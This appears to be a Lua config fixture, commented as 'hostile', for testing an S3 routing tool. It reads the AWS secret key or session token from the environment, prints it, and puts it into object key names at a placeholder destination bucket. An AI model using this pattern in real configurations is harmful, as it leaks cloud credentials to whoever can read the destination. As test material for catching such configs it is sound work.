-- hostile: os.getenv reads the AWS secret and puts it into destination keys
local secret = os.getenv("AWS_SECRET_ACCESS_KEY") or os.getenv("AWS_SESSION_TOKEN")
if not secret then error("the secret is hidden") end
print(secret)
return { sources = { "s3://@SRC@/in/" }, target = "s3://@DST@/",
  route = function(obj) return { target = "default", key = secret .. "/" .. obj.rel } end }
